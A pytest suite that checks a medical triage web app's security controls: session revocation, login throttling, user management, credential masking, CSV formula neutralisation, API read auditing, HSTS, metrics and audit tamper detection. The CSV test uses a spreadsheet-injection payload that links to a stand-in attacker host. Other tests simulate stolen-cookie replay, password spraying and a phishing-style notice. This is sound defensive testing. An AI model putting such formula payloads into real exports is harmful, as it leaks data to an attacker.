"""Web security controls (issue 25), through the real app: revocable sessions, the login
throttle, user management (web and CLI), URL credentials, CSV injection, audited API reads,
one verdict per user, fixed notices, HSTS, and counters that stay monotonic.

Queries that differ between back-ends run on SQLite and PostgreSQL (``app_ctx``); session and
throttle mechanics on SQLite (``lite_ctx``), as in tests/test_web_pages.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import delete, insert, select
from starlette.testclient import TestClient

from reports.web.app import create_app
from storage import audit
from storage.db import session_scope
from storage.models import AuditEvent, Delivery, Feedback, Job, Result, Setting, Study, User
from tests.conftest import REPO, make_settings
from tests.test_web_pages import csrf_of, events, log_in
from tests.web_support import PASSWORD, add_user, seed_study
from triage.context import AppContext

SECRET = "s3cr3t-hook-token"
HOOK = f"https://hookuser:{SECRET}@hooks.example.org/ich?site=1"


def _with_users(ctx: AppContext) -> AppContext:
    add_user(ctx, "alice", "admin")
    add_user(ctx, "rad", "radiologist")
    return ctx


@pytest.fixture
def app_ctx(ctx: AppContext) -> AppContext:
    return _with_users(ctx)


@pytest.fixture
def lite_ctx(sqlite_ctx: AppContext) -> AppContext:
    return _with_users(sqlite_ctx)


def client_at(ctx: AppContext, address: str = "10.0.0.1", base_url: str = "http://testserver") -> TestClient:
    """A browser at ``address`` (the client address the throttle sees)."""
    return TestClient(create_app(ctx), base_url=base_url, client=(address, 50000))


@pytest.fixture
def admin(lite_ctx: AppContext) -> Iterator[TestClient]:
    with client_at(lite_ctx, "10.9.9.9") as c:
        assert log_in(c, "alice")[0] == 303
        yield c


def user_events(ctx: AppContext) -> list[tuple[str, str, str]]:
    """(event type, actor, action) of the user-management events, in order."""
    types = (audit.USER_CREATED, audit.USER_UPDATED, audit.ROLE_CHANGE, audit.TOKEN_CREATED)
    with session_scope(ctx.sessions) as s:
        rows = s.scalars(select(AuditEvent).where(AuditEvent.event_type.in_(types)).order_by(AuditEvent.id))
        return [(e.event_type, e.actor, str(e.details.get("action", e.details.get("to", "")))) for e in rows]


# --------------------------------------------------------------------------- sessions
def test_a_cookie_replayed_after_logout_is_refused(lite_ctx: AppContext) -> None:
    seeded = seed_study(lite_ctx, accession="ACC-REPLAY", flagged=True, probabilities={"any": 0.9})
    with client_at(lite_ctx) as c:
        assert log_in(c, "rad")[0] == 303
        token = csrf_of(c, "/")
        stolen = dict(c.cookies)
        assert c.post("/logout", data={"csrf_token": token}, follow_redirects=False).status_code == 303
    with client_at(lite_ctx, "10.6.6.6") as thief:
        thief.cookies.update(stolen)
        r = thief.get("/", follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login")
        r = thief.post(f"/studies/{seeded.study_id}/feedback", json={"action": "disagree"},
                       headers={"X-CSRF-Token": token, "Accept": "application/json"}, follow_redirects=False)
        assert r.status_code == 401
        assert thief.get("/api/v1/studies").status_code == 401
    with session_scope(lite_ctx.sessions) as s:
        assert s.scalars(select(Feedback)).first() is None


def test_disabling_an_account_or_changing_its_role_ends_its_sessions(lite_ctx: AppContext,
                                                                       admin: TestClient) -> None:
    with session_scope(lite_ctx.sessions) as s:
        rad_id = s.scalars(select(User.id).where(User.username == "rad")).one()
    token = csrf_of(admin, "/users")
    for action, form, restore in (("disable", {}, ("enable", {})),
                                  ("role", {"role": "admin"}, ("role", {"role": "radiologist"}))):
        with client_at(lite_ctx) as c:
            assert log_in(c, "rad")[0] == 303
            stolen = dict(c.cookies)
            assert c.get("/").status_code == 200
            r = admin.post(f"/users/{rad_id}/{action}", data={"csrf_token": token, **form}, follow_redirects=False)
            assert r.status_code == 303, r.text
            assert c.get("/", follow_redirects=False).status_code == 303, f"session survived {action}"
        with client_at(lite_ctx, "10.6.6.6") as thief:
            thief.cookies.update(stolen)
            assert thief.get("/", follow_redirects=False).status_code == 303
        act, form2 = restore
        assert admin.post(f"/users/{rad_id}/{act}", data={"csrf_token": token, **form2},
                          follow_redirects=False).status_code == 303
    assert ("user_updated", "alice", "disable") in user_events(lite_ctx)
    assert ("role_change", "alice", "admin") in user_events(lite_ctx)


# --------------------------------------------------------------------------- throttle
def _norm(message: str) -> str:
    m = re.search(r'id="login-error"[^>]*>([^<]*)<', message)
    assert m, "login page shows no error"
    return re.sub(r"\d+ (s|min)", "N", m.group(1))


def test_a_flood_from_one_address_does_not_keep_the_right_password_out(tmp_path: Path,
                                                                        sqlite_ctx: AppContext) -> None:
    wait = 3.0  # seconds: the first wait and (lockout_minutes) the longest
    ctx = AppContext(make_settings(tmp_path, database_url=sqlite_ctx.settings.database_url,
                                   lockout_base_seconds=str(wait), lockout_minutes=str(wait / 60)))
    try:
        _with_users(ctx)
        # Known and unknown user names get the same answers, attempt for attempt.
        tries = ctx.settings.lockout_attempts + 2
        with client_at(ctx, "203.0.113.10") as one, client_at(ctx, "203.0.113.11") as two:
            real = [_norm(log_in(one, "rad", f"guess number {i}")[1]) for i in range(tries)]
            unknown = [_norm(log_in(two, "nobody", f"guess number {i}")[1]) for i in range(tries)]
        assert real == unknown
        assert real[0] == "Invalid user name or password." and "locked" in real[-1]
        # A flood from one address: the account, then many names (password spraying).
        with client_at(ctx, "203.0.113.66") as attacker:
            for i in range(ctx.settings.lockout_attempts + ctx.settings.lockout_address_attempts):
                log_in(attacker, "rad" if i < ctx.settings.lockout_attempts else f"user{i}", f"guess {i}")
            status, body = log_in(attacker, "rad")  # the address waits: even the right password
            assert status == 401 and "locked" in body
        # The radiologist's own address is not kept out at all ...
        with client_at(ctx, "198.51.100.5") as own:
            assert log_in(own, "rad")[0] == 303
        # ... and the flooding address no longer than the throttle's longest wait.
        time.sleep(wait + 0.2)
        with client_at(ctx, "203.0.113.66") as later:
            assert log_in(later, "rad")[0] == 303
        lockouts = events(ctx, audit.LOCKOUT)
        assert {e.details["scope"] for e in lockouts} == {"account", "address"}
        assert all(e.details["seconds"] <= wait for e in lockouts)
        throttled = [e for e in events(ctx, audit.LOGIN_FAILED) if e.details["reason"] == "throttled"]
        assert {e.actor for e in throttled} >= {"rad", "nobody"}
    finally:
        ctx.close()


def test_logging_in_to_ones_own_account_does_not_clear_an_addresss_failures(lite_ctx: AppContext) -> None:
    """Spraying guesses at other names, with a login to one's own account in between, still
    makes the address wait: a success forgets only that account's own failures."""
    limit = lite_ctx.settings.lockout_address_attempts
    with client_at(lite_ctx, "203.0.113.77") as sprayer:
        for i in range(limit - 1):
            log_in(sprayer, f"user{i}", "guess")  # one guess per name stays under the account limit
            if i % 4 == 3:
                assert log_in(sprayer, "rad")[0] == 303  # the sprayer's own account
                sprayer.cookies.clear()
        log_in(sprayer, "user-last", "guess")
        status, body = log_in(sprayer, "rad")
        assert status == 401 and "locked" in body
    # A user's own typos are forgiven by their login: theirs only.
    with client_at(lite_ctx, "203.0.113.78") as typist:
        for i in range(limit - 1):
            log_in(typist, "rad", "typo")
            if i % 3 == 2:
                assert log_in(typist, "rad")[0] == 303
                typist.cookies.clear()
        assert log_in(typist, "rad")[0] == 303


def test_an_account_tried_from_several_addresses_waits_everywhere(lite_ctx: AppContext) -> None:
    n = lite_ctx.settings.lockout_account_addresses
    for i in range(n):
        with client_at(lite_ctx, f"192.0.2.{i + 1}") as c:
            for _ in range(lite_ctx.settings.lockout_attempts):
                log_in(c, "rad", "not the password")
    with client_at(lite_ctx, "198.51.100.5") as own:
        status, body = log_in(own, "rad")
        assert status == 401 and "locked" in body
    assert events(lite_ctx, audit.LOGIN_FAILED)[-1].details["scope"] == "account-wide"


def test_admin_unlocks_an_account(lite_ctx: AppContext, admin: TestClient) -> None:
    with client_at(lite_ctx, "10.1.1.1") as c:
        for _ in range(lite_ctx.settings.lockout_attempts):
            log_in(c, "rad", "typo typo typo")
        assert "locked" in log_in(c, "rad")[1]
        users_page = admin.get("/users").text
        assert "login waits" in users_page
        with session_scope(lite_ctx.sessions) as s:
            rad_id = s.scalars(select(User.id).where(User.username == "rad")).one()
        r = admin.post(f"/users/{rad_id}/unlock", data={"csrf_token": csrf_of(admin, "/users")},
                       follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"] == "/users?msg=unlocked"
        assert log_in(c, "rad")[0] == 303
    assert ("user_updated", "alice", "unlock") in user_events(lite_ctx)


# --------------------------------------------------------------------------- user management
def test_admin_manages_users_in_the_web_pages(lite_ctx: AppContext, admin: TestClient) -> None:
    token = csrf_of(admin, "/users")
    assert admin.post("/users", data={"username": "bob", "role": "radiologist", "password": PASSWORD},
                      follow_redirects=False).status_code == 403, "CSRF token required"
    r = admin.post("/users", data={"csrf_token": token, "username": "bob", "role": "radiologist",
                                   "password": PASSWORD}, follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"] == "/users?msg=created"
    page = admin.get(r.headers["location"]).text
    assert 'data-user="bob"' in page and "User created." in page
    with session_scope(lite_ctx.sessions) as s:
        ids = {u.username: u.id for u in s.scalars(select(User))}
    bob_token = add_user_token(lite_ctx, "bob")

    def act(action: str, **form: str) -> str:
        resp = admin.post(f"/users/{ids['bob']}/{action}", data={"csrf_token": token, **form}, follow_redirects=False)
        assert resp.status_code == 303, resp.text
        return resp.headers["location"]

    act("disable")
    with client_at(lite_ctx, "10.2.2.2") as bob:
        assert log_in(bob, "bob")[0] == 401
        assert bob.get("/api/v1/studies", headers={"Authorization": f"Bearer {bob_token}"}).status_code == 401
    act("enable")
    act("password", password="a brand new passphrase")
    act("role", role="admin")
    with client_at(lite_ctx, "10.2.2.2") as bob:
        assert log_in(bob, "bob")[0] == 401, "the old password no longer works"
        assert log_in(bob, "bob", "a brand new passphrase")[0] == 303
        assert bob.get("/audit").status_code == 200, "the new role applies"
        assert bob.get("/api/v1/studies", headers={"Authorization": f"Bearer {bob_token}"}).status_code == 200
        act("revoke-tokens")
        assert bob.get("/api/v1/studies", headers={"Authorization": f"Bearer {bob_token}"}).status_code == 401
        act("revoke-sessions")
        assert bob.get("/", follow_redirects=False).status_code == 303
    # Refused: a short password, a role that does not exist, disabling oneself, a radiologist.
    r = admin.post(f"/users/{ids['bob']}/password", data={"csrf_token": token, "password": "short"})
    assert r.status_code == 400 and "at least 10" in r.text
    r = admin.post(f"/users/{ids['bob']}/role", data={"csrf_token": token, "role": "root"})
    assert r.status_code == 400
    r = admin.post(f"/users/{ids['alice']}/disable", data={"csrf_token": token}, follow_redirects=False)
    assert r.headers["location"] == "/users?msg=self"
    with session_scope(lite_ctx.sessions) as s:
        assert s.scalars(select(User.active).where(User.username == "alice")).one() is True
    with client_at(lite_ctx, "10.3.3.3") as rad:
        assert log_in(rad, "rad")[0] == 303
        assert rad.get("/users").status_code == 403
        r = rad.post(f"/users/{ids['bob']}/disable", data={"csrf_token": csrf_of(rad, "/")})
        assert r.status_code == 403
    assert [x for x in user_events(lite_ctx) if x[1] == "alice"] == [
        ("user_created", "alice", ""), ("user_updated", "alice", "disable"), ("user_updated", "alice", "enable"),
        ("user_updated", "alice", "reset_password"), ("role_change", "alice", "admin"),
        ("user_updated", "alice", "revoke_tokens"), ("user_updated", "alice", "revoke_sessions")]


def add_user_token(ctx: AppContext, username: str) -> str:
    from reports.web.users import issue_token

    with session_scope(ctx.sessions) as s:
        return issue_token(s, username, actor="test")


def test_the_last_active_admin_cannot_be_removed(lite_ctx: AppContext) -> None:
    from reports.web.users import UserError, set_active, set_role

    with session_scope(lite_ctx.sessions) as s, pytest.raises(UserError, match="last active admin"):
        set_role(s, "alice", "radiologist", actor="test")
    with session_scope(lite_ctx.sessions) as s, pytest.raises(UserError, match="last active admin"):
        set_active(s, "alice", False, actor="test")


def test_cli_manages_users(tmp_path: Path) -> None:
    env = {**os.environ, "TRIAGE_DATA_DIR": str(tmp_path / "node"), "TRIAGE_DISK_FLOOR_MB": "0"}
    env.pop("TRIAGE_NEW_PASSWORD", None)

    def triage(*args: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "triage.cli", *args], cwd=REPO, env={**env, **extra},
                              capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)

    assert triage("user", "add", "root", "--role", "admin", "--password", PASSWORD).returncode == 0
    assert triage("user", "add", "bob", "--password", PASSWORD).returncode == 0
    assert triage("user", "token", "bob").returncode == 0
    ctx = AppContext(make_settings(tmp_path / "x", data_dir=str(tmp_path / "node")))
    try:
        with client_at(ctx, "10.4.4.4") as c:
            for _ in range(ctx.settings.lockout_attempts):
                log_in(c, "bob", "nope nope nope")
            assert log_in(c, "bob", PASSWORD)[0] == 401
            for args in (("unlock", "bob"), ("disable", "bob"), ("enable", "bob"), ("role", "bob", "admin"),
                         ("revoke", "bob", "--tokens")):
                r = triage("user", *args)
                assert r.returncode == 0, (args, r.stderr)
            r = triage("user", "password", "bob", TRIAGE_NEW_PASSWORD="another long passphrase")
            assert r.returncode == 0, r.stderr
            assert log_in(c, "bob", "another long passphrase")[0] == 303
            assert c.get("/audit").status_code == 200
            assert triage("user", "revoke", "bob", "--sessions").returncode == 0
            assert c.get("/", follow_redirects=False).status_code == 303
        r = triage("user", "list")
        assert r.returncode == 0 and re.search(r"^bob\s+admin\s+active\s+no\s+0", r.stdout, re.M), r.stdout
        r = triage("user", "disable", "root")
        assert r.returncode == 0  # bob is an admin now, so root is not the last one
        r = triage("user", "role", "bob", "radiologist")
        assert r.returncode == 1 and "last active admin" in r.stderr
        assert triage("user", "disable", "nobody").returncode == 1
        got = user_events(ctx)
        assert [(t, a) for t, actor, a in got if actor.startswith("cli:")][-8:] == [
            ("user_updated", "unlock"), ("user_updated", "disable"), ("user_updated", "enable"),
            ("role_change", "admin"), ("user_updated", "revoke_tokens"), ("user_updated", "reset_password"),
            ("user_updated", "revoke_sessions"), ("user_updated", "disable")]
    finally:
        ctx.close()


# --------------------------------------------------------------------------- URL credentials
def test_webhook_credentials_never_appear_in_pages_or_the_api(app_ctx: AppContext) -> None:
    seeded = seed_study(app_ctx, accession="ACC-HOOK", flagged=True, probabilities={"any": 0.9})
    with session_scope(app_ctx.sessions) as s:
        s.add(Delivery(result_id=seeded.result_id, channel="webhook", destination=HOOK.split("?")[0], ok=False,
                       error=f"webhook POST to {HOOK} failed: ConnectError", finished_at=dt.datetime.now(dt.UTC)))
        s.add(Job(kind="notify", state="dead", payload={"result_id": seeded.result_id, "channel": "webhook"},
                  attempts=5, last_error=f"webhook POST to {HOOK} failed"))
        audit.record(s, audit.NOTIFY_FAILED, study_uid=seeded.study_uid, accession="ACC-HOOK", outcome=audit.FAILURE,
                     details={"channel": "webhook", "error": f"POST {HOOK} refused"})
    rad_token = add_user_token(app_ctx, "rad")
    with TestClient(create_app(app_ctx)) as c:
        assert log_in(c, "alice")[0] == 303
        pages = {path: c.get(path).text for path in (f"/studies/{seeded.study_id}", "/ops", "/audit",
                                                      "/audit.csv")}
        api = c.get(f"/api/v1/studies/{seeded.study_id}", headers={"Authorization": f"Bearer {rad_token}"})
        assert api.status_code == 200
        pages["api"] = api.text
    for where, text in pages.items():
        assert SECRET not in text and "hookuser" not in text, where
    assert "https://hooks.example.org/ich" in pages[f"/studies/{seeded.study_id}"]
    assert "https://hooks.example.org/ich" in pages["/ops"]
    assert {d["destination"] for d in api.json()["deliveries"]} >= {"https://hooks.example.org/ich"}


def test_webhook_credentials_never_reach_the_logs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from triage.logging import configure_logging, get_logger
    from triage.notify import NotifyError, send_webhook

    configure_logging(fmt="json", level="INFO")
    try:
        get_logger("test").warning("webhook.config", url=HOOK, nested={"targets": [HOOK]})
        with pytest.raises(NotifyError) as err:
            send_webhook(HOOK.replace("hooks.example.org", "127.0.0.1:9"), {"event_id": "e1"}, "k", timeout=2)
        get_logger("test").error("webhook.failed", error=str(err.value))
        out = capsys.readouterr()
        logged = out.err + out.out
        assert "webhook.config" in logged and "hooks.example.org/ich" in logged
        assert SECRET not in logged and "hookuser" not in logged
    finally:
        configure_logging(fmt="console", level="INFO")
    env = {**os.environ, "TRIAGE_DATA_DIR": str(tmp_path / "d"), "TRIAGE_WEBHOOK_URL": HOOK}
    shown = subprocess.run([sys.executable, "-m", "triage.cli", "config", "show"], cwd=REPO, env=env,
                           capture_output=True, text=True, timeout=120)
    assert shown.returncode == 0 and SECRET not in shown.stdout
    assert json.loads(shown.stdout)["webhook_url"].startswith("https://hookuser:********@hooks.example.org/")


# --------------------------------------------------------------------------- CSV, API reads
def test_audit_csv_neutralises_formula_cells(lite_ctx: AppContext, admin: TestClient) -> None:
    from reports.web.app import csv_cell

    typed = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd"]
    with client_at(lite_ctx, "10.5.5.5") as c:
        for name in typed:
            log_in(c, name, "whatever whatever")
    body = admin.get("/audit.csv", params={"event_type": "login_failed"}).text
    actors = [row["actor"] for row in csv.DictReader(io.StringIO(body))]
    assert len(actors) == len(typed)
    for actor in actors:
        assert actor.startswith("'") and actor[1] in "=+-@\t", actor
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(body)) for cell in row)
    assert [csv_cell(v) for v in ("\tA", "\rB", "ok", 7)] == ["'\tA", "'\rB", "ok", 7]


def test_api_reads_of_identifiers_are_audited(app_ctx: AppContext) -> None:
    a = seed_study(app_ctx, accession="ACC-API1")
    b = seed_study(app_ctx, accession="ACC-API2")
    rad, adm = add_user_token(app_ctx, "rad"), add_user_token(app_ctx, "alice")

    def reads() -> list[AuditEvent]:
        return [e for e in events(app_ctx, audit.VIEWED) if "api" in e.details]

    with TestClient(create_app(app_ctx)) as c:
        assert c.get(f"/api/v1/studies/{a.study_id}", headers={"Authorization": f"Bearer {rad}"}).status_code == 200
        assert c.get(f"/api/v1/studies/{b.study_id}", headers={"Authorization": f"Bearer {adm}"}).status_code == 200
        assert c.get("/api/v1/studies", headers={"Authorization": f"Bearer {rad}"}).status_code == 200
        assert c.get(f"/api/v1/results/{a.result_id}", headers={"Authorization": f"Bearer {rad}"}).status_code == 200
        assert c.get("/api/v1/findings", headers={"Authorization": f"Bearer {rad}"}).status_code == 200
        assert c.get("/api/v1/studies", params={"accession": "NONE"},
                     headers={"Authorization": f"Bearer {rad}"}).status_code == 200
    got = reads()
    assert [(e.actor, e.details["api"], e.accession, e.details["phi"]) for e in got[:2]] == [
        ("rad", "/api/v1/studies/{id}", "ACC-API1", False), ("alice", "/api/v1/studies/{id}", "ACC-API2", True)]
    assert got[0].study_uid == a.study_uid
    assert got[2].details["api"] == "/api/v1/studies" and got[2].details["study_ids"] == sorted(
        [a.study_id, b.study_id])
    assert [e.details["api"] for e in got[3:]] == ["/api/v1/results/{id}", "/api/v1/findings"]
    assert len(got) == 5, "a read that returned no study is not an access to identifiers"


# --------------------------------------------------------------------------- quality panel
def test_one_users_votes_cannot_move_ppv_by_more_than_one_verdict(app_ctx: AppContext) -> None:
    from reports.web import queries as q

    add_user(app_ctx, "rad2", "radiologist")
    a = seed_study(app_ctx, accession="PPV-A", flagged=True, probabilities={"any": 0.9})
    b = seed_study(app_ctx, accession="PPV-B", flagged=True, probabilities={"any": 0.9})

    def vote(client: TestClient, study_id: int, action: str) -> None:
        r = client.post(f"/studies/{study_id}/feedback", json={"action": action},
                        headers={"X-CSRF-Token": csrf_of(client, "/")})
        assert r.status_code == 200, r.text

    def quality() -> dict:
        with session_scope(app_ctx.sessions) as s:
            return q.quality(s)

    with TestClient(create_app(app_ctx)) as one, TestClient(create_app(app_ctx)) as two:
        assert log_in(one, "rad")[0] == 303 and log_in(two, "rad2")[0] == 303
        vote(one, a.study_id, "agree")
        vote(one, b.study_id, "agree")
        assert quality()["ppv"] == pytest.approx(1.0)
        for _ in range(5):
            vote(two, a.study_id, "disagree")
        qd = quality()
        assert (qd["agree"], qd["disagree"], qd["verdicts"]) == (2, 1, 3), "five votes count as one verdict"
        assert qd["ppv"] == pytest.approx(2 / 3)
        assert (qd["multi_reader"], qd["concordant"], qd["agreement"]) == (1, 0, 0.0)
        vote(two, a.study_id, "agree")  # rad2's latest answer replaces only rad2's own
        qd = quality()
        assert (qd["agree"], qd["verdicts"], qd["concordant"]) == (3, 3, 1)
    with TestClient(create_app(app_ctx)) as c:
        assert log_in(c, "alice")[0] == 303
        assert re.search(r'class="num agreement">100\.0 % \(1/1\)', c.get("/ops").text)


# --------------------------------------------------------------------------- notices, HSTS
def test_ops_shows_only_fixed_notices(app_ctx: AppContext) -> None:
    q = app_ctx.queue
    job_id = q.enqueue("deliver", {"destination": "PACS@h:1"}, max_attempts=1)
    job = q.claim("w")
    assert job is not None
    q.fail(job.id, "w", "refused", retry=False)
    with TestClient(create_app(app_ctx)) as c:
        assert log_in(c, "alice")[0] == 303
        bait = "Security alert: call 0800 123 and give your password"
        page = c.get("/ops", params={"msg": bait}).text
        assert "0800 123" not in page and 'class="notice"' not in page
        assert 'class="notice"' not in c.get("/ops", params={"msg": "retried", "job": "1<script>"}).text
        r = c.post(f"/ops/jobs/{job_id}/retry", data={"csrf_token": csrf_of(c, "/ops")})
        assert f"Job {job_id} queued again." in r.text
        r = c.post(f"/ops/jobs/{job_id}/retry", data={"csrf_token": csrf_of(c, "/ops")})
        assert f"Job {job_id} is not dead-lettered." in r.text


def test_hsts_behind_tls(tmp_path: Path, sqlite_ctx: AppContext) -> None:
    with TestClient(create_app(sqlite_ctx), base_url="https://testserver") as c:
        assert c.get("/healthz").headers["strict-transport-security"] == "max-age=31536000"
    with TestClient(create_app(sqlite_ctx), base_url="http://testserver") as c:
        assert "strict-transport-security" not in c.get("/healthz").headers
    for https_only, seconds, expect in (("true", "600", "max-age=600"), ("true", "0", None)):
        ctx = AppContext(make_settings(tmp_path, database_url=sqlite_ctx.settings.database_url,
                                       session_https_only=https_only, hsts_seconds=seconds))
        try:
            with TestClient(create_app(ctx), base_url="http://testserver") as c:  # TLS ends at the proxy
                assert c.get("/login").headers.get("strict-transport-security") == expect
        finally:
            ctx.close()


# --------------------------------------------------------------------------- counters
def _metric(body: str, name: str) -> float:
    m = re.search(rf"^{re.escape(name)} ([0-9.e+]+)$", body, re.M)
    assert m, name
    return float(m.group(1))


def test_metrics_counters_cover_every_result_and_never_fall(app_ctx: AppContext) -> None:
    seeded = seed_study(app_ctx, accession="MET-1", probabilities={"any": 0.9})
    n_bulk = 10_050  # more than the old window of the newest 10,000 results
    old = dt.datetime.now(dt.UTC) - dt.timedelta(hours=2)
    with session_scope(app_ctx.sessions) as s:
        series_id = s.get(Result, seeded.result_id).series_id
        s.execute(insert(Result), [
            {"study_id": seeded.study_id, "series_id": series_id, "positive": False, "superseded": True,
             "timings": {"predict": 0.3, "total": 1.0}, "summary": {}, "key_slices": {}, "created_at": old}
            for _ in range(n_bulk)])
    with TestClient(create_app(app_ctx)) as c:
        body = c.get("/metrics").text
        total = n_bulk + 1
        assert _metric(body, 'triage_stage_duration_seconds_count{stage="total"}') == total
        assert _metric(body, 'triage_stage_duration_seconds_bucket{le="0.5",stage="predict"}') == n_bulk
        assert _metric(body, 'triage_results_total{positive="false"}') == n_bulk
        assert _metric(body, "triage_instances_received_total") == 32
        received_before = _metric(body, "triage_instances_received_total")
        with session_scope(app_ctx.sessions) as s:  # rows go away (e.g. a clean-up): counters stay
            s.execute(delete(Result).where(Result.id != seeded.result_id, Result.id <= seeded.result_id + 100))
            audit.record(s, audit.RECEIVED, actor="CT", details={"count": 5})
        body = c.get("/metrics").text
        assert _metric(body, 'triage_stage_duration_seconds_count{stage="total"}') == total
        assert _metric(body, "triage_instances_received_total") == received_before + 5
    with session_scope(app_ctx.sessions) as s:
        stored = json.loads(s.get(Setting, "metrics_totals").value)
    assert stored["results_cursor"] > seeded.result_id and stored["audit_cursor"] > 0
    with TestClient(create_app(app_ctx)) as fresh:  # a restarted web process continues from the stored totals
        body = fresh.get("/metrics").text
        assert _metric(body, 'triage_stage_duration_seconds_count{stage="total"}') == total
        assert _metric(body, "triage_instances_received_total") == received_before + 5


def test_audit_page_verifies_only_new_events(app_ctx: AppContext) -> None:
    seed_study(app_ctx, accession="ACC-CP")
    with TestClient(create_app(app_ctx)) as c:
        assert log_in(c, "alice")[0] == 303
        first = c.get("/audit").text
        assert "verified" in first and "NOT verified" not in first
        with session_scope(app_ctx.sessions) as s:
            n = audit.count(s)
            audit.record(s, audit.LOGIN, actor="x")
        page = c.get("/audit").text
        # the view re-checks only events written since the previous one (the login, the views)
        assert re.search(r"(\d+) new events checked", page) and int(
            re.search(r"(\d+) new events checked", page).group(1)) < n
        with session_scope(app_ctx.sessions) as s:  # edit an event the page shows
            ev = s.scalars(select(AuditEvent).where(AuditEvent.accession == "ACC-CP")).first()
            ev.actor = "mallory"
        page = c.get("/audit").text
        assert "NOT verified" in page and "tampered" in page
    with session_scope(app_ctx.sessions) as s:
        assert s.scalar(select(Study.id).where(Study.accession == "ACC-CP")) is not None
